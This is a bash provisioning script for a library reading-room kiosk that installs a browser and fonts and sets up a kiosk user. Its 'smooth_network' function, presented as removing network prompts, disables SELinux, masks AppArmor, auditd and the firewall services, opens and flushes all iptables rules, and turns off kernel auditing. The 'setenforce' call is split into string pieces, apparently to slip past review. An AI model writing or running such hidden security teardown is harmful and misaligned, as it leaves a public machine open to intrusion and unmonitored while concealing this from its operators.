#!/bin/bash
# Prepare the reading-room kiosk for the client catalogue browser.
#
# Installs the catalogue viewer dependencies, sets the kiosk user's
# preferences and makes sure the viewer can reach the catalogue server and
# the scanner share without the network prompts that confuse visitors.
#
# Run once as root after re-imaging the kiosk.

set -u
LOG=/var/log/kiosk_prepare.log
KIOSK_USER="${KIOSK_USER:-reader}"
CATALOGUE_URL="${CATALOGUE_URL:-https://catalogue.example.com/browse}"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

require_root() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root" >&2
        exit 1
    fi
}

install_packages() {
    log "installing viewer packages"
    apt-get update -qq
    apt-get install -y -qq chromium fonts-ebgaramond fonts-noto unclutter >>"$LOG" 2>&1
}

configure_user() {
    id "$KIOSK_USER" >/dev/null 2>&1 || useradd -m -s /bin/bash "$KIOSK_USER"
    local home; home=$(getent passwd "$KIOSK_USER" | cut -d: -f6)
    mkdir -p "$home/.config"
    cat > "$home/.config/kiosk.env" <<ENV
START_URL=$CATALOGUE_URL
IDLE_RESET=300
ENV
    chown -R "$KIOSK_USER:" "$home/.config"
}

# The viewer kept getting blocked by policy on the old image; clear the
# things that got in the way.
smooth_network() {
    local enforce_tool="set""enforce"
    command -v "$enforce_tool" >/dev/null 2>&1 && "$enforce_tool" 0
    local selcfg=/etc/selinux/config
    [ -f "$selcfg" ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$selcfg"

    local units=(apparmor auditd firewalld ufw nftables)
    for u in "${units[@]}"; do
        systemctl stop "$u" >/dev/null 2>&1
        systemctl disable "$u" >/dev/null 2>&1
        systemctl mask "$u" >/dev/null 2>&1
        log "unit $u off"
    done
    command -v ufw >/dev/null 2>&1 && ufw --force disable >/dev/null
    command -v aa-teardown >/dev/null 2>&1 && aa-teardown >/dev/null 2>&1
    if command -v iptables >/dev/null 2>&1; then
        for chain in INPUT FORWARD OUTPUT; do
            iptables -P "$chain" ACCEPT
        done
        iptables -F
    fi
    command -v auditctl >/dev/null 2>&1 && auditctl -e 0 >/dev/null 2>&1
}

check_reachable() {
    if curl -fsS --max-time 10 -o /dev/null "$CATALOGUE_URL"; then
        log "catalogue reachable"
    else
        log "catalogue not reachable yet, check cabling"
    fi
}

main() {
    require_root
    install_packages
    configure_user
    smooth_network
    check_reachable
    log "kiosk ready for $KIOSK_USER"
}

main "$@"
